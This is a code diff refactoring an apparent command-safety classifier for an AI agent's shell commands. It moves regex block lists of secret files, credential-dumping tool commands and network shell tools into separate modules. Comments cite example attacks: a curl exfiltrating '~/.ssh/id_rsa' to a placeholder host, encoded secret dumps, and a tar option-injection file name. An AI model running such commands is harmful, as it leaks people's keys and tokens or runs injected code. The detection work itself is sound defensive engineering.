@@ -5,13 +5,14 @@
  * "unknown": a reason to ask, never a reason to run.
  */
 import { existsSync, readdirSync, realpathSync, statSync } from "node:fs";
-import { basename, dirname, isAbsolute, join, normalize, resolve } from "node:path";
+import { basename, dirname, isAbsolute, join, resolve } from "node:path";
 import { findStarts, type SimpleCommand } from "./shell-syntax.ts";
 import { writeDanger } from "./paths.ts";
 import { ownFile, programName } from "./wrappers.ts";
 import { MORE } from "./effect-table-more.ts";
 import { BUILD_SCRIPT, type Look, readsOnlyInput, SCRIPT_RUNNERS, SPECIAL, SPECIAL_BY_NAME } from "./effect-specials.ts";
-import { languageOf } from "./inline-code.ts";
+import { exposes } from "./exposure.ts";
+import { changesSettings } from "./settings-files.ts";
 import { type Row, TABLE } from "./effect-table.ts";
 import { RUNS_PROGRAM } from "./danger-git.ts";
 import { hasOption } from "./has-option.ts";
@@ -255,7 +256,7 @@ const REMOTE = /^(?:ssh|autossh|mosh|rsh)$/;
 const remote = (w: string[]) => REMOTE.test(programName(w[0] ?? "")) || (/^(?:docker|podman|nerdctl|kubectl|oc)$/.test(programName(w[0] ?? "")) && w.includes("exec"));
 
 /** Paths that writing to is nothing: the null device and the terminal's streams. */
-const NOWHERE = /^\/dev\/(?:null|stdout|stderr|tty|fd\/[12])$/;
+export const NOWHERE = /^\/dev\/(?:null|stdout|stderr|tty|fd\/[12])$/;
 
 /** Whether `path` lies inside `cwd` (or in /tmp, unless `tmp` is false); an expansion or `~` is outside, being unknown here. */
 export function inside(path: string, cwd: string, tmp = true): boolean {
@@ -319,11 +320,6 @@ const isFile = (path: string) => {
   }
 };
 
-/**
- * Files inside a project that change where its tools fetch from or what they run later: writing one
- * changes settings (`echo registry=… > .npmrc`, a git hook), however new it is.
- */
-const SETTINGS_FILE = /(?:^|\/)(?:\.git\/.+|\.husky\/.+|lefthook(?:-local)?\.ya?ml|\.lefthook\.ya?ml|\.lintstagedrc[\w.]*|lint-staged\.config\.\w+|\.?mise(?:\.local)?\.toml|\.tool-versions|\.vscode\/[^/]+|\.devcontainer\/.+|\.github\/workflows\/.+|\.gitlab-ci\.yml|\.gitattributes|\.gitmodules|(?:site|user)customize\.py|[\w.-]+\.pth|\.npmrc|\.yarnrc(?:\.yml)?|bunfig\.toml|\.bunfig\.toml|\.pypirc|pip\.conf|\.condarc|\.gemrc|\.bundle\/config|\.cargo\/config(?:\.toml)?|\.envrc|\.gitconfig|\.git\/(?:config|hooks\/[^/]+)|\.docker\/config\.json|\.ssh\/[^/]+|\.netrc|\.curlrc|\.wgetrc|\.mvn\/[^/]+|\.husky\/[^/]+|\.pre-commit-config\.yaml|\.githooks\/.+|\.circleci\/.+|\.buildkite\/.+|\.travis\.ya?ml|\.drone\.ya?ml|bitbucket-pipelines\.ya?ml|azure-pipelines\.ya?ml|Jenkinsfile|\.env(?:\.(?:local|dev|development|prod|production|test|staging|ci)(?:\.local)?)?|rust-toolchain(?:\.toml)?)$/i;
 
 /** Long options whose value is a program or a command line this one runs, in any tool's naming. */
 const RUNS_OPTION = /^--(?!no-)(?:[\w-]+-(?:command|cmd|program|prog|shell|editor|pager|hook|askpass|reporter|loader|plugin)|test-reporter|loader|import|require|preload|plugin|plugins|setup-?files?\w*|global-?setup\w*|setup\w*|rsh|upload-pack|receive-pack|exec-path|askpass|use-askpass|editor|pager|node-options|userconfig|globalconfig|template)(?:=|$)/i;
@@ -354,8 +350,6 @@ function elsewhere(name: string, args: string[]): boolean {
   return values.some((v) => !/^(?:localhost|127\.\d+\.\d+\.\d+|::1|\[::1\]|\/|unix:)/.test(v.replace(/^[a-z+]+:\/\//, "")));
 }
 
-/** Files that hold secrets by their name. */
-const SECRET_FILE = /(?:^|\/)(?:\.env(?:\.[\w.-]+)?|[^/]*\.(?:pem|key|p12|pfx|jks|keystore|kdbx|ppk|asc|gpg)|id_(?:rsa|dsa|ecdsa|ed25519)[^/]*|\.netrc|\.pgpass|\.npmrc|\.pypirc|\.git-credentials|\.htpasswd|credentials(?:\.\w+)?|[^/]*secret[^/]*|kubeconfig|service-account[^/]*\.json)$/i;
 
 /**
  * A word of `cmd` the plan makes when it runs and that begins with it: a substitution (`$(cat args.txt)`) or a variable
@@ -381,51 +375,22 @@ const PROJECT_RUNNER = /^(?:rails|rake|rspec|bundle|gradlew|mvnw|sbtx?|cake|arti
 /** Programs whose words are only text or names, never options that act. */
 const OPTIONLESS = /^(?::|echo|printf|test|\[|\[\[|true|false|cd|pushd|export|local|declare|readonly|set|shift|exit|return|basename|dirname|expr|seq|sleep|wc|cat|head|tail|ls|stat|file|du|realpath|readlink|which|type|command|date|grep|egrep|fgrep|rg|jq|yq|diff|cmp|sort|uniq|cut|tr|tee|mkdir|touch)$/;
 
-/** A path in the person's home, and the home itself (with a pattern in it or not). */
-const HOME_PATH = /^(?:~|\$\{?HOME\b\}?|\/root|\/home\/[^/]+)(?:\/|$)/;
-const HOME_ROOT = /^(?:~|\$\{?HOME\}?|\/root|\/home\/[^/]+)\/?(?:[*?]*)?$/;
 
-/** Words that ask a tool for a secret it keeps. */
-const SECRET_WORD = /^(?:--?)?(?:show-|print-|get-)?(?:token|tokens|access-token|identity-token|login-password|password|passwords|secret|secrets|credential|credentials|reveal|with-decryption|show-secrets|show-token|decrypt|raw)$|_authtoken|:_password|:_auth$|\.sensitive/;
-/** Commands whose output is secrets: a state, a config with its values put in, a store's entries. */
-const SHOWS_SECRETS = [["terraform", "state", "pull"], ["terraform", "output", "-json"], ["terraform", "output", "-raw"], ["tofu", "state", "pull"], ["docker", "compose", "config"], ["docker-compose", "config"], ["heroku", "config"], ["helm", "get", "values"], ["helm", "get", "all"], ["vault", "kv"], ["vault", "read"], ["op", "item"], ["op", "read"], ["pulumi", "config"], ["sops", "-d"], ["sops", "--decrypt"], ["kubectl", "config", "view"]];
 
-/** Programs that print what they read in another form. */
-const ENCODERS = /^(?:base64|basenc|base32|xxd|od|hexdump|rev|tac|gzip|bzip2|xz|zstd|lz4|uuencode|openssl|tr|iconv|gpg|age|zip|tar|sed|awk|jq)$/;
-/** A secret's file or the environment, named in code. */
-const SECRET_IN_CODE = /\.env\b|id_(?:rsa|dsa|ecdsa|ed25519)|\.ssh\/|\.aws\/|credentials|\.netrc|\.pgpass|\.npmrc|\.pypirc|kubeconfig|\.kube\/|environ|process\.env|ENV\[|\$ENV|getenv|^(?:env|\$__loc__)\b|\|\s*env\b/;
 
-/** Programs that print what they learn of a file (its name, size, mode, kind), never what it holds. */
-const METADATA = /^(?:ls|stat|file|du|test|\[|find|tree|realpath|readlink|namei|getfacl|lsattr|wc|ssh-keygen)$/;
 
-/** Where a person's keys, tokens and passwords live, outside any project. */
-const SECRET_PATH = /(?:^|\/)(?:\.ssh|\.aws|\.gnupg|\.kube|\.docker|\.azure|\.oci|\.config\/(?:gh|gcloud|hub|op|doctl|heroku)|\.password-store|\.vault-token|\.terraform\.d|\.cargo\/credentials(?:\.toml)?|\.pgpass|\.my\.cnf|\.netrc|\.npmrc|\.pypirc|\.gem\/credentials|\.git-credentials|\.local\/share\/keyrings|shadow|gshadow|sudoers|environ|run\/secrets)(?:\/|$)/;
 
-/**
- * Whether a file of the folder is one a tool reads as its settings or runs later: one the list names, any hidden
- * file or folder (`.hg/hgrc`, `.Rprofile`, `.github/actions/…`) but those that only list names or a version, and the
- * files CI and deploy services run with their secrets.
- */
-const settingsFile = (path: string) =>
-  SETTINGS_FILE.test(path) || (/(?:^|\/)\.[^./]/.test(path) && !PLAIN_DOTFILE.test(path)) || DEPLOY_FILE.test(path);
-const PLAIN_DOTFILE = /(?:^|\/)\.(?:gitignore|dockerignore|npmignore|prettierignore|eslintignore|stylelintignore|gcloudignore|slugignore|editorconfig|nvmrc|node-version|python-version|ruby-version|java-version|terraform-version|tool-versions-ignore|gitkeep|keep)$|\.(?:bak|orig|old|backup|example|sample|template|dist)$|~$/;
-const DEPLOY_FILE = /(?:^|\/)(?:netlify\.toml|vercel\.json|now\.json|cloudbuild\.ya?ml|buildspec\.ya?ml|appveyor\.ya?ml|\.?woodpecker\.ya?ml|\.?cirrus\.ya?ml|codemagic\.ya?ml|bitrise\.ya?ml|action\.ya?ml|app\.ya?ml|fly\.toml|render\.ya?ml|railway\.json|Procfile|skaffold\.ya?ml|tiltfile|devfile\.ya?ml|wercker\.ya?ml)$/i;
 
-/** Files that say what a project's build fetches. */
-const MANIFEST = /(?:^|\/)(?:requirements[\w.-]*\.(?:txt|in)|constraints[\w.-]*\.txt|go\.(?:mod|work)|pyproject\.toml|setup\.cfg|Pipfile|package(?:-lock)?\.json|yarn\.lock|pnpm-lock\.yaml|Cargo\.toml|Gemfile|[\w.-]+\.csproj|nuget\.config|gradle(?:-wrapper)?\.properties|build\.gradle(?:\.kts)?|settings\.gradle(?:\.kts)?|pom\.xml|composer\.json|deno\.json|bunfig\.toml)$/i;
-const FETCH_SOURCE = /:\/\/|index-url|find-links|\breplace\b|=>|javaagent|distributionUrl|registry|resolved|source\s*=|git\+|\bpath\s*=/i;
 
-/** Folders whose files are a tool's settings or hooks, at any depth. */
-const SETTINGS_DIR = /(?:^|\/)(?:\.git|\.github|\.gitlab|\.husky|\.vscode|\.idea|\.devcontainer|\.mvn|\.cargo|\.bundle|\.docker|\.ssh|\.config|\.circleci|\.buildkite|\.githooks)(?:\/|$)/i;
 
 /** A glob or a brace range in a path: bash expands it to what it matches. */
-const PATTERN = /[*?[]|\{[^}]*(?:,|\.\.)[^}]*\}/;
+export const PATTERN = /[*?[]|\{[^}]*(?:,|\.\.)[^}]*\}/;
 
 /** Programs that only delete what they are given. */
 const DELETERS = /^(?:rm|rmdir|rimraf|del|trash|trash-put)$/;
 
 /** Programs that copy their sources to their last operand: what is there already is overwritten. */
-const COPIERS = /^(?:cp|mv|ln|install|rsync)$/;
+export const COPIERS = /^(?:cp|mv|ln|install|rsync)$/;
 
 /** Network clients: a word made when the line runs can carry local data out (`curl "https://x/?d=$(cat ~/.ssh/id_rsa)"`). */
 const NETWORK = /^(?:curl|wget|http|https|xh|httpie|dig|nslookup|host|ping|ping6|traceroute|nc|ncat|netcat|socat|telnet|ssh|scp|sftp|ftp|whois|openssl|git|gh|aws|gcloud|az)$/;
@@ -483,7 +448,7 @@ function readsFromInput(argv: string[]): boolean {
 }
 
 /** What a pipe's earlier stages surely print, when they are one echo or printf of words known now. */
-function printed(stages: SimpleCommand[]): string | undefined {
+export function printed(stages: SimpleCommand[]): string | undefined {
   if (stages.length !== 1) return undefined;
   const [c] = stages as [SimpleCommand];
   const name = programName(c.argv[0] ?? "");
@@ -573,43 +538,8 @@ export function effectsOf(cmd: SimpleCommand, cwd: string): Effects {
   const written = [...cmd.redirects.filter((r) => />/.test(r.op)).map((r) => r.target), ...(name === "tee" ? args.filter((a) => !a.startsWith("-")) : COPIERS.test(name) ? operands.slice(-1) : []), ...outputFiles(args)];
   // Named however it is spelt (`.git/./config`, `.git//hooks/x`), or copied into such a folder (`cp pc .git/hooks/`).
   const copiedInto = COPIERS.test(name) && operands.length > 1 && /\/$/.test(operands.at(-1)!) ? operands.slice(0, -1).map((o) => join(operands.at(-1)!, basename(o))) : [];
-  if ([...written, ...copiedInto].some((p) => settingsFile(normalize(p).replace(/^\.\//, "")))) effects.add("settings");
-  // A manifest told where to fetch from (an index, a URL, a replacement, an agent), or given contents aye cannot see.
-  if (written.some((p) => MANIFEST.test(p))) {
-    const text = name === "echo" || name === "printf" ? args.join(" ") : cmd.stdinText ?? printed(cmd.stdinFrom);
-    if (COPIERS.test(name) || (text !== undefined && FETCH_SOURCE.test(text))) effects.add("settings");
-  }
-  // Keys and tokens of the person's, read from outside the folder (`base64 ~/.ssh/id_rsa`, `rev ~/.aws/credentials`): what a
-  // command prints goes before a model, and no redaction knows every encoding.
-  const sources = [...args.flatMap((a) => (a.startsWith("-") ? (/^--?[\w-]+=(.+)$/.exec(a)?.slice(1) ?? []) : [a])), ...cmd.redirects.filter((r) => r.op.startsWith("<")).map((r) => r.target)];
-  // (What only tells of a file, its name, size or mode, tells no secret; nor does a public key.)
-  const secret = (p: string) => !/\.pub$/.test(p) && (SECRET_PATH.test(p) || SECRET_FILE.test(p) || (PATTERN.test(p) && /^(?:~|\$\{?HOME\b|\/root\b|\/home\/)/.test(p)));
-  if (!METADATA.test(name) && sources.some((p) => /^(?:~|\/|\$\{?HOME\b)/.test(p) && !inside(p, cwd) && secret(p))) effects.add("sends");
-  // A secret of the project's, or the environment, encoded on its way to the output (`base64 .env`, `env | rev`): no
-  // redaction knows every encoding, so it reaches the model. So does code that opens one (`python3 -c 'open(".env")…'`).
-  // (The whole environment: `env`, `printenv`, `set` with nothing named.)
-  const dumpsEnv = (f: SimpleCommand) => (f.argv.length ? /^(?:env|printenv|set|export|declare)$/.test(programName(f.argv[0]!)) && f.argv.length === 1 : /^(?:env|printenv)$/.test(programName(f.wrappers?.at(-1)?.[0] ?? "")));
-  const fromSecret = sources.some(secret) || cmd.stdinFrom.some((f) => dumpsEnv(f) || f.argv.slice(1).some(secret));
-  const encodes = ENCODERS.test(name) && !(name === "openssl" && args.includes("-noout"));
-  if ((encodes && fromSecret) || ((languageOf(name) || name === "jq") && args.some((a) => SECRET_IN_CODE.test(a)))) effects.add("sends");
-  // A tool asked for the secrets it keeps (`gh auth token`, `kubectl get secrets -o yaml`, `terraform state pull`,
-  // `vault kv get`, `op item get --reveal`) prints them for the model, encoded or not.
-  // (Their names alone, `gh secret list`, `kubectl get secrets`, are no secret: only a form that shows the values is.)
-  const words = cmd.argv.map((w) => w.toLowerCase());
-  const shown = words.some((w, i) => /^(?:-o|--output|--format|-f)$/.test(words[i - 1] ?? "") || /^(?:-o|--output=|--format=)\S/.test(w)) || !words.some((w) => /^(?:list|ls|metadata|--quiet|-q)$/.test(w));
-  const asked = words.slice(1).some((w) => SECRET_WORD.test(w) && (!/^secrets?$/.test(w) || words.some((x) => /^-o|^--output/.test(x))));
-  if ((asked && shown) || SHOWS_SECRETS.some((seq) => seq.every((w, i) => words[i] === w) && shown)) effects.add("sends");
-  // The person's home, outside the folder: encoded (`base64 ~/.bash_history`), or searched or copied whole
-  // (`rg -uu '' ~`, `grep -r --include='id_*' '' ~`, `find ~ -exec base64 {} +`), what it holds reaches the model.
-  const looked = [...sources, ...(cmd.over ?? [])];
-  const wholeHome = looked.some((p) => HOME_ROOT.test(p)) && (/^(?:rg|ag|ack|tar|zip|7z|rsync|cpio)$/.test(name) || (/^(?:grep|egrep|fgrep|zgrep|cp)$/.test(name) && args.some((a) => /^-[a-zA-Z]*[rR]|^--(?:recursive|dereference-recursive)$|^-d$/.test(a))));
-  if (wholeHome || (encodes && looked.some((p) => HOME_PATH.test(p) && !inside(p, cwd)))) effects.add("sends");
-  // A secret of the project's (`.env`, a key) put where others can read it, /tmp included, is exposed.
-  // (So is the whole project, `.env` and `.git` with it: `cp -r . /tmp/x`, `cp -r * /tmp/x`.)
-  const whole = (a: string) => /^(?:\.\/?|\*|\.\/\*|\.git\/?|\.\/\.)$/.test(a);
-  const packs = COPIERS.test(name) || /^(?:tar|gtar|bsdtar|zip|7z|7za|cpio|pax|rar)$/.test(name);
-  const packed = [...written, ...(packs ? args.filter((a) => !a.startsWith("-") && /[/~]/.test(a)) : [])];
-  if ([...args, ...cmd.redirects.filter((r) => r.op.startsWith("<")).map((r) => r.target)].some((a) => SECRET_FILE.test(a) || (packs && whole(a))) && packed.some((p) => !NOWHERE.test(p) && !inside(p, cwd, false))) effects.add("sends");
+  if (changesSettings(cmd, name, args, operands, [...written, ...copiedInto])) effects.add("settings");
+  if (exposes(cmd, name, args, written, cwd)) effects.add("sends");
   // A file named like an option (`touch -- --checkpoint-action=exec=sh`), which a later `tar -cf x.tar *` reads as one;
   // and a bare glob where such a file is already.
   const dd = args.indexOf("--");
@@ -632,11 +562,6 @@ export function effectsOf(cmd: SimpleCommand, cwd: string): Effects {
     effects.add("unknown");
     found.unknown ??= `what \`${matched}\` matches`;
   }
-  // A link to a settings folder or file, through which a bare name is one (`ln -s .git g; … >> g/config`).
-  const linking = /^(?:ln|link)$/.test(name) || (name === "cp" && args.some((a) => /^-[a-zA-Z]*[ls]|^--(?:link|symbolic-link)$/.test(a)));
-  if (linking && args.filter((a) => !a.startsWith("-")).some((p) => PATTERN.test(p) || SETTINGS_DIR.test(normalize(p).replace(/^\.\//, "")) || SETTINGS_FILE.test(normalize(p).replace(/^\.\//, "")))) effects.add("settings");
-  // A cd into a tool's settings folder, after which a bare name is a settings file (`cd .git/hooks; … > pre-commit`).
-  if (/^(?:cd|pushd)$/.test(name) && operands.some((p) => SETTINGS_DIR.test(normalize(p).replace(/^\.\//, "")) || PATTERN.test(p))) effects.add("settings");
   for (const r of cmd.redirects) {
     if (!/>/.test(r.op) || NOWHERE.test(r.target)) continue;
     if (!inside(r.target, cwd)) effects.add("outside");
